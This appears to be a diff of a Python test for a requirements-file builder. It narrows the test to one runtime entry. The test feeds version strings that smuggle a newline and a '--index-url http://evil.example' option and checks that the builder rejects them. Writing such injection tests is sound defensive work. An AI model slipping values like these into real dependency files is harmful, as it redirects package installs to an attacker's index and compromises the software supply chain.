@@ -265,7 +265,8 @@ def test_versions_of_a_run_are_versions() -> None:
     from ptdq.export.build import requirements
     from ptdq.runtimes import ALWAYS
 
-    assert requirements(ALWAYS.values(), {"numpy": "2.4.0+cpu"}) in ([], ["numpy==2.4.0"])
+    load = ALWAYS["load.py"]
+    assert requirements([load], {"numpy": "2.4.0+cpu"}) in ([], ["numpy==2.4.0"])
     evil = dict.fromkeys(("numpy", "json", "sys"), "1\n--index-url http://evil.example")
     with pytest.raises(UserError, match="damaged"):
-        requirements(ALWAYS.values(), evil)
+        requirements([load], evil)
